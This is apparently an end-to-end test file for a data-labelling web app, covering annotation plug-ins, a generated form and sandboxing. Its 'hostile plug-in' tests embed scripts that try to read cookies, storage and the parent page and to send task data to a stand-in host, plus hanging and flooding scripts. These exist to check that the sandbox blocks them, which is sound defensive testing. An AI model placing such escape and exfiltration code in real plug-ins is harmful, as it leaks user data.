import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, inject } from 'vitest';
import { apiAs } from './api.ts';
import { violationsOf } from './axe.ts';
import { crash, type Journey, journey, useBrowser } from './journey.ts';

useBrowser();

const PICTURE = `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><rect width="400" height="300" fill="#9bc"/><circle cx="200" cy="150" r="60" fill="#e63"/></svg>')}`;

interface Answer {
  result: Record<string, unknown>;
  schema_version: string;
  tool_version: string;
  task_definition: number;
}

const waitForAnswer = async (page: Page, projectId: number): Promise<Answer> => {
  const list = () => apiAs<Answer[]>(page, 'GET', `/api/annotations?project=${projectId}`);
  await expect.poll(async () => (await list()).length, { timeout: 20_000, interval: 300 }).toBe(1);
  return (await list())[0] as Answer;
};

/** A live project with one task of the definition, and the manager at work on it. */
async function workOn(j: Journey, definition: number, data: Record<string, unknown>) {
  const { page } = await j.signIn('admin@labelwright.example');
  const { id } = await apiAs<{ id: number }>(page, 'POST', '/api/projects', { title: `Plug-ins ${Math.random()}` });
  await apiAs(page, 'POST', '/api/tasks', { project: id, task_definition: definition, data });
  await apiAs(page, 'POST', `/api/projects/${id}/publish`, {});
  return { page, projectId: id };
}

async function builtIn(j: Journey, slug: string): Promise<number> {
  const { page } = await j.signIn('admin@labelwright.example');
  const [type] = await apiAs<{ id: number }[]>(page, 'GET', `/api/task-types?slug=${slug}`);
  const [definition] = await apiAs<{ id: number }[]>(page, 'GET', `/api/task-definitions?task_type=${type?.id}`);
  return definition?.id ?? 0;
}

async function ownDefinition(j: Journey, slug: string, definition: unknown, script?: string): Promise<number> {
  const { page } = await j.signIn('admin@labelwright.example');
  const type = await apiAs<{ id: number }>(page, 'POST', '/api/task-types', { slug, name: slug });
  const body = { task_type: type.id, version: '1.0', definition };
  const made = await apiAs<{ id: number }>(page, 'POST', '/api/task-definitions', body);
  if (script !== undefined) {
    const folder = join(inject('dataDir'), 'frontends/plugins', slug);
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, 'index.js'), script);
    const manifest = {
      name: slug,
      task_type: slug,
      version: '1.0.0',
      root: `plugins/${slug}`,
      js: ['index.js'],
      css: [],
      result_schema_version: '1',
    };
    await apiAs(page, 'POST', '/api/plugins', { task_type: type.id, name: slug, version: '1.0.0', manifest });
  }
  return made.id;
}

/** How many boxes the server has kept of what is not submitted yet. */
async function storedBoxes(page: Page, projectId: number): Promise<number | undefined> {
  const { id } = await apiAs<{ id: number }>(page, 'GET', `/api/projects/${projectId}/next`);
  const [draft] = await apiAs<{ result: { objects?: unknown[] } }[]>(page, 'GET', `/api/tasks/${id}/drafts`);
  return draft?.result.objects?.length;
}

const frameOf = (page: Page) => page.frameLocator('iframe[title*="plug-in"]');

describe('built-in plug-ins', () => {
  journey('frame objects by mouse and by keyboard', async (j) => {
    const { page, projectId } = await workOn(j, await builtIn(j, 'bounding-box'), { image: PICTURE });
    await page.goto(`/projects/${projectId}/label`);
    const frame = frameOf(page);
    const surface = frame.locator('.stage-surface');
    await surface.waitFor();
    const box = await surface.boundingBox();
    if (!box) throw new Error('the picture has no place');
    await page.mouse.move(box.x + box.width * 0.2, box.y + box.height * 0.2);
    await page.mouse.down();
    await page.mouse.move(box.x + box.width * 0.5, box.y + box.height * 0.6, { steps: 4 });
    await page.mouse.up();
    await frame.getByRole('button', { name: 'Box 1: person' }).waitFor();
    await page.keyboard.press('3');
    await frame.getByRole('button', { name: 'Box 1: animal' }).waitFor();
    await page.keyboard.press('n');
    for (let step = 0; step < 5; step += 1) await page.keyboard.press('ArrowRight');
    await page.keyboard.press('Shift+ArrowDown');
    await frame.getByRole('button', { name: 'Box 2: animal' }).waitFor();
    await j.shoot(page, 'plugin-bounding-box');
    expect(await violationsOf(page)).toEqual([]);
    await expect.poll(() => storedBoxes(page, projectId)).toBe(2);
    await page.reload();
    await frame.getByRole('button', { name: 'Box 2: animal' }).waitFor();
    await frame.getByRole('button', { name: 'Box 2: animal' }).focus();
    await page.keyboard.press('Control+Enter');
    const answer = await waitForAnswer(page, projectId);
    expect(answer).toMatchObject({ schema_version: '1.0', tool_version: '1.0.0' });
    const [first, second] = answer.result.objects as Record<string, number>[];
    expect(second).toEqual({ category: 'animal', x: 45, y: 40, width: 20, height: 21 });
    expect(first?.category).toBe('animal');
    expect(first?.x).toBeCloseTo(20, 0);
    expect(first?.width).toBeCloseTo(30, 0);
  });

  journey('lose no more than a second to a crash', async (j) => {
    const { page, projectId } = await workOn(j, await builtIn(j, 'bounding-box'), { image: PICTURE });
    await page.goto(`/projects/${projectId}/label`);
    await frameOf(page).locator('.stage-surface').waitFor();
    await frameOf(page)
      .getByRole('button', { name: /New box/ })
      .focus();
    await page.keyboard.press('n');
    await frameOf(page).getByRole('button', { name: 'Box 1: person' }).waitFor();
    await page.keyboard.press('Shift+ArrowDown');
    const context = page.context();
    await crash(page);

    const again = await context.newPage();
    await again.goto(`/projects/${projectId}/label`);
    await frameOf(again).getByRole('button', { name: 'Box 1: person' }).focus();
    await again.keyboard.press('Control+Enter');
    const answer = await waitForAnswer(again, projectId);
    expect(answer.result.objects).toEqual([{ category: 'person', x: 40, y: 40, width: 20, height: 21 }]);
  });

  journey('outline what stands out by keyboard alone', async (j) => {
    const { page, projectId } = await workOn(j, await builtIn(j, 'salient-polygon'), { image: PICTURE });
    await page.goto(`/projects/${projectId}/label`);
    const frame = frameOf(page);
    await frame.getByRole('button', { name: /New outline/ }).focus();
    // Without an outline the answer is not complete, and the page says so.
    await page.keyboard.press('Control+Enter');
    await page.getByText('This answer is not complete yet').waitFor();
    await frame.getByRole('button', { name: /New outline/ }).focus();
    await page.keyboard.press('n');
    for (const key of ['Space', 'Shift+ArrowRight', 'Space', 'Shift+ArrowDown', 'Space', 'Enter'])
      await page.keyboard.press(key);
    await frame.getByRole('button', { name: 'Outline 1 (3 points)' }).waitFor();
    await frame.getByRole('button', { name: 'Point 1 of 3' }).focus();
    await page.keyboard.press('ArrowLeft');
    await j.shoot(page, 'plugin-salient-polygon');
    await page.keyboard.press('Control+Enter');
    const answer = await waitForAnswer(page, projectId);
    expect(answer.result).toEqual({
      polygons: [
        {
          points: [
            { x: 49, y: 50 },
            { x: 60, y: 50 },
            { x: 60, y: 60 },
          ],
        },
      ],
      nothing_salient: false,
    });
  });
});

journey('a plug-in is worked in by touch', async (j) => {
  const { page, projectId } = await workOn(j, await builtIn(j, 'salient-polygon'), { image: PICTURE });
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('Emulation.setTouchEmulationEnabled', { enabled: true, maxTouchPoints: 1 });
  await page.goto(`/projects/${projectId}/label`);
  const frame = frameOf(page);
  const surface = frame.locator('.stage-surface');
  await surface.waitFor();
  const box = await surface.boundingBox();
  if (!box) throw new Error('the picture has no place');
  const tap = async (x: number, y: number): Promise<void> => {
    const point = { x: box.x + box.width * x, y: box.y + box.height * y };
    await cdp.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: [point] });
    await cdp.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] });
  };
  for (const [x, y] of [
    [0.3, 0.3],
    [0.7, 0.3],
    [0.7, 0.7],
    [0.3, 0.7],
  ] as const)
    await tap(x, y);
  await frame.getByText('4 points').waitFor();
  await tap(0.3, 0.3);
  await frame.getByRole('button', { name: 'Outline 1 (4 points)' }).waitFor();
  await page.getByRole('button', { name: /Submit/ }).click();
  const { result } = await waitForAnswer(page, projectId);
  expect((result.polygons as { points: unknown[] }[])[0]?.points).toHaveLength(4);
});

describe('a generated form', () => {
  const DEFINITION = {
    label_schema: {
      title: 'Review',
      type: 'object',
      required: ['verdict', 'parts', 'when'],
      properties: {
        verdict: {
          title: 'Verdict',
          oneOf: [
            { const: 'good', title: 'Good' },
            { const: 'bad', title: 'Bad' },
          ],
        },
        why: { title: 'Why', type: 'string' },
        sure: { title: 'Sure', type: 'boolean' },
        score: { title: 'Score', type: 'integer', minimum: 1, maximum: 10 },
        topics: { title: 'Topics', type: 'array', uniqueItems: true, items: { enum: ['price', 'quality', 'service'] } },
        when: { title: 'When', type: 'string', format: 'date' },
        parts: {
          title: 'Parts',
          type: 'array',
          minItems: 1,
          items: {
            title: 'Part',
            type: 'object',
            required: ['name'],
            properties: { name: { title: 'Name', type: 'string', minLength: 1 } },
          },
        },
        contact: {
          title: 'Contact',
          oneOf: [
            {
              title: 'Mail',
              type: 'object',
              required: ['address'],
              properties: { address: { title: 'Address', type: 'string', format: 'email' } },
            },
            { title: 'Nobody', const: 'nobody' },
          ],
        },
      },
    },
    validation_rules: [
      { rule: 'required_if', path: '/why', when: { path: '/verdict', equals: 'bad' }, message: 'Say why it is bad.' },
    ],
  };

  journey('is filled in by keyboard, says what is wrong at the field, and is stored', async (j) => {
    const definition = await ownDefinition(j, 'review-form', DEFINITION);
    const { page, projectId } = await workOn(j, definition, { text: 'It broke after a day.' });
    await page.goto(`/projects/${projectId}/label`);
    await page.getByText('It broke after a day.').waitFor();
    await page.keyboard.press('Control+Enter');
    await page.getByText(/need your attention/).waitFor();
    await j.shoot(page, 'schema-form-errors');
    await page.getByLabel(/^Verdict/).selectOption({ label: 'Bad' });
    await page.getByLabel(/^Score/).fill('11');
    await page.getByLabel(/^Score/).blur();
    await page.getByText('Must be at most 10.').waitFor();
    await page.getByLabel(/^Score/).fill('2');
    await page.getByLabel('Sure').press('Space');
    await page.getByLabel('Quality').press('Space');
    await page.getByLabel(/^When/).fill('2026-05-04');
    await page.getByRole('button', { name: 'Add Part' }).press('Enter');
    await page.keyboard.type('screen');
    await page.getByRole('button', { name: 'Add Part' }).press('Enter');
    await page.keyboard.type('battery');
    await page.keyboard.press('Alt+ArrowUp');
    await page.getByLabel('Kind').selectOption({ label: 'Mail' });
    await page.getByLabel(/^Address/).fill('ada@example.com');
    await page.keyboard.press('Control+Enter');
    await page.getByText('Say why it is bad.').waitFor();
    await page.getByLabel(/^Why/).fill('no power');
    await j.shoot(page, 'schema-form');
    expect(await violationsOf(page)).toEqual([]);
    await page.getByText('Saved').first().waitFor();
    await page.keyboard.press('Control+Enter');
    const answer = await waitForAnswer(page, projectId);
    expect(answer).toMatchObject({ tool_version: 'form', schema_version: '1.0', task_definition: definition });
    expect(answer.result).toEqual({
      verdict: 'bad',
      why: 'no power',
      sure: true,
      score: 2,
      topics: ['quality'],
      when: '2026-05-04',
      parts: [{ name: 'battery' }, { name: 'screen' }],
      contact: { address: 'ada@example.com' },
    });
  });
});

describe('a hostile plug-in', () => {
  const SCHEMA = { label_schema: { type: 'object', properties: { note: { title: 'Note', type: 'string' } } } };

  /** What the page around it offers afterwards: the form, in which the work can be finished. */
  async function finishInTheForm(page: Page, projectId: number): Promise<Answer> {
    await page.getByRole('button', { name: 'Use the form' }).first().click();
    await page.getByLabel(/^Note/).fill('by form');
    await page.keyboard.press('Control+Enter');
    return waitForAnswer(page, projectId);
  }

  journey('gets at nothing outside its frame', async (j) => {
    const script = `
      const tries = {
        parent: () => parent.document.title,
        cookies: () => document.cookie,
        storage: () => localStorage.length,
        top: () => { top.location = 'about:blank'; return top.location.href; },
        popup: () => { if (!window.open('about:blank')) throw new Error('closed'); },
        fetch: async () => (await fetch('/api/current-user/whoami')).text(),
        beacon: () => { if (!navigator.sendBeacon('/api/x', 'x')) throw new Error('no'); },
        eval: () => eval('1'),
        picture: () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = reject; i.src = location.origin + '/favicon.svg'; }),
        frame: () => new Promise((resolve, reject) => { const f = document.createElement('iframe'); f.src = 'about:blank'; document.body.append(f); setTimeout(() => { try { resolve(f.contentWindow.parent.parent.document.title); } catch (error) { reject(error); } }, 50); }),
      };
      export async function mount(element, host) {
        const reached = [];
        for (const [name, attempt] of Object.entries(tries)) {
          try { await attempt(); reached.push(name); } catch {}
        }
        element.textContent = 'tried everything';
        setTimeout(() => { location.href = 'http://labelwright.test:9/?' + encodeURIComponent(JSON.stringify(host.task)); }, 2500);
        host.onChange({ note: reached.join(',') || 'nothing' });
      }`;
    const { page, projectId } = await workOn(j, await ownDefinition(j, 'hostile-reach', SCHEMA, script), {});
    const left: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('labelwright.test'))
        request.response().then(
          () => left.push(request.failure()?.errorText ?? 'sent'),
          () => left.push('failed'),
        );
    });
    await page.goto(`/projects/${projectId}/label`);
    await frameOf(page).getByText('tried everything').waitFor();
    await page.getByText('Saved').first().waitFor();
    // By the clock of the page: the frame has tried to leave by then.
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 3000)));
    expect(left.filter((reason) => !/BLOCKED_BY_CSP|BLOCKED_BY_CLIENT/.test(reason))).toEqual([]);
    await page.getByRole('button', { name: /Submit/ }).click();
    const { result } = await waitForAnswer(page, projectId);
    // A beacon is queued before its policy is looked at; it never leaves the frame.
    expect(
      String(result.note)
        .split(',')
        .filter((name) => name !== 'beacon' && name !== 'nothing'),
    ).toEqual([]);
  });

  journey('that throws is told of, and the form takes over', async (j) => {
    const script = 'export function mount() { throw new Error("I do not want to"); }';
    const { page, projectId } = await workOn(j, await ownDefinition(j, 'hostile-throw', SCHEMA, script), {});
    await page.goto(`/projects/${projectId}/label`);
    await page.getByText('The plug-in could not show this task').waitFor();
    await page.getByText('I do not want to').waitFor();
    await j.shoot(page, 'plugin-stopped');
    expect((await finishInTheForm(page, projectId)).result).toEqual({ note: 'by form' });
  });

  journey('that hangs is stopped, and what was done before is kept', async (j) => {
    const script = `export function mount(element, host) {
      host.onChange({ note: 'before' });
      element.textContent = 'about to hang';
      setTimeout(() => { for (;;); }, 1500);
    }`;
    const { page, projectId } = await workOn(j, await ownDefinition(j, 'hostile-hang', SCHEMA, script), {});
    await page.goto(`/projects/${projectId}/label`);
    await frameOf(page).getByText('about to hang').waitFor();
    await page.getByText('The plug-in no longer answers').waitFor({ timeout: 30_000 });
    await page.getByRole('button', { name: 'Use the form' }).first().click();
    await expect.poll(() => page.getByLabel(/^Note/).inputValue()).toBe('before');
    await page.keyboard.press('Control+Enter');
    expect((await waitForAnswer(page, projectId)).result).toEqual({ note: 'before' });
  });

  journey('that floods the page with garbage is stopped', async (j) => {
    const script = `export function mount(element, host) {
      setInterval(() => { for (let i = 0; i < 500; i += 1) host.onSubmit({ note: 'flood ' + i }); }, 1);
      parent.postMessage({ type: 'labelwright:host' }, '*');
    }`;
    const { page, projectId } = await workOn(
      j,
      await ownDefinition(
        j,
        'hostile-flood',
        { label_schema: { type: 'object', properties: { note: { title: 'Note', enum: ['by form'] } } } },
        script,
      ),
      {},
    );
    await page.goto(`/projects/${projectId}/label`);
    await page.getByText('The plug-in sent more than could be taken in').waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: 'Use the form' }).first().click();
    await page.getByLabel(/^Note/).selectOption({ label: 'By form' });
    await page.keyboard.press('Control+Enter');
    expect((await waitForAnswer(page, projectId)).result).toEqual({ note: 'by form' });
  });
});
